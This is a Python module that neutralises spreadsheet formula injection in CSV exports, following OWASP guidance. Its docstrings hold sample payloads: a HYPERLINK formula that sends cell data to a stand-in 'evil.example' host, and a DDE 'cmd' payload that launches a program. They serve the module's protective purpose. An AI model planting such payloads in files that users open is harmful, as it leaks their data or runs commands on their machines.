r"""Writing CSV files that are safe to open in a spreadsheet.

geotool's tables carry text from users' files (unit names, notes, column names). A
cell such as ``=HYPERLINK("http://evil.example/?"&A1)`` or ``@SUM(...)`` in a CSV is
run as a formula when the file is opened in Excel, LibreOffice or Google Sheets:
"CSV injection" or "formula injection". Reference: OWASP, *CSV Injection*,
https://owasp.org/www-community/attacks/CSV_Injection (and OWASP ASVS 5.0,
requirement 1.2.10, which adds the NUL character).

The rule :func:`to_csv_bytes` applies, as OWASP recommends: every **text** cell (and
every column header, index value and index name written) whose first character is
``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a NUL gets a single quote
``'`` in front, which spreadsheets take as "this is text" and do not show. Quotes,
separators and line breaks inside cells are escaped by the CSV writer (doubled quotes,
quoted fields, RFC 4180). Numbers are left alone: a float ``-1.5`` is written as
``-1.5``, and so is a text cell that is exactly one plain decimal number (``"-1.5"``,
``"+3"``, ``"-2e5"``), which a spreadsheet reads as that number and never as a
formula; ``"-1+1"`` is not one number and is neutralised.

Rows end in CR LF, as RFC 4180 has it. With pandas' default LF, Python's CSV writer
leaves a cell holding a lone CR unquoted, and a spreadsheet that breaks rows at CR
would start a new cell after it: ``"x
=cmd"`` would put ``=cmd`` first in a cell,
past the check on first characters.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise", "to_csv_bytes"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\x00")
"""First characters that make a spreadsheet read a cell as a formula."""

_FIRST = frozenset(FORMULA_PREFIXES)

_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: see the module's rule.

    Parameters
    ----------
    value : object
        A cell. Only :class:`str` values are changed.

    Returns
    -------
    object
        ``"'" + value`` for a text starting with a formula character that is not a plain
        number; ``value`` otherwise.

    Examples
    --------
    >>> neutralise("=1+1"), neutralise("-1+1"), neutralise("-1.5"), neutralise(-2)
    ("'=1+1", "'-1+1", '-1.5', -2)

    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def _label(value: Any) -> Any:
    """A column or index label made safe (each level of a tuple label)."""
    if isinstance(value, tuple):
        return tuple(neutralise(v) for v in value)
    return neutralise(value)


def _safe_column(column: pd.Series) -> pd.Series:
    kind = column.dtype
    if isinstance(kind, pd.CategoricalDtype):
        column = column.astype(object)
    elif not (pd.api.types.is_object_dtype(kind) or pd.api.types.is_string_dtype(kind)):
        return column  # numbers, booleans, dates: no text to neutralise
    values = column.to_numpy(dtype=object)
    hits = [i for i, v in enumerate(values) if isinstance(v, str) and v[:1] in _FIRST]
    if not hits:  # the common case, found without a call per cell
        return column
    out = values.copy()
    for i in hits:
        out[i] = neutralise(out[i])
    return pd.Series(out, index=column.index, name=column.name, dtype=object)


def to_csv_bytes(frame: pd.DataFrame, **kwargs: Any) -> bytes:
    r"""``frame`` as CSV bytes (UTF-8 with a byte-order mark), formula cells neutralised.

    The byte-order mark makes Excel read the file as UTF-8 (Chinese names stay
    readable), as every CSV geotool writes. Text cells, column headers and, when
    written, index values, index names and ``index_label`` follow the module's rule.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table; it is not changed.
    **kwargs
        Passed to :meth:`pandas.DataFrame.to_csv`. ``index`` defaults to ``False``
        (``True`` when ``index_label`` is given) and ``lineterminator`` to CR LF (do
        not override it: see the module's note); ``path_or_buf`` and ``encoding`` are
        not accepted.

    Returns
    -------
    bytes

    Examples
    --------
    >>> to_csv_bytes(pd.DataFrame({"name": ["=cmd|' /C calc'!A0"], "v": [-1.5]}))
    b"\xef\xbb\xbfname,v\r\n'=cmd|' /C calc'!A0,-1.5\r\n"

    """
    kwargs.setdefault("index", "index_label" in kwargs)
    kwargs.setdefault("lineterminator", "\r\n")  # quotes every cell holding CR or LF
    safe = frame.copy(deep=False)
    for position in range(safe.shape[1]):
        safe.isetitem(position, _safe_column(safe.iloc[:, position]))  # type: ignore[arg-type]
    safe.columns = safe.columns.map(_label)
    if kwargs["index"] is not False:
        index = safe.index
        names = [_label(n) for n in index.names]
        if isinstance(index, pd.MultiIndex):
            safe.index = pd.MultiIndex.from_tuples([_label(t) for t in index], names=names)
        else:
            safe.index = pd.Index([_label(v) for v in index], name=names[0])
    header = kwargs.get("header")
    if isinstance(header, list | tuple):
        kwargs["header"] = [_label(v) for v in header]
    label = kwargs.get("index_label")
    if isinstance(label, str):
        kwargs["index_label"] = neutralise(label)
    elif isinstance(label, list | tuple):
        kwargs["index_label"] = [_label(v) for v in label]
    text = safe.to_csv(**kwargs)
    return text.encode("utf-8-sig")
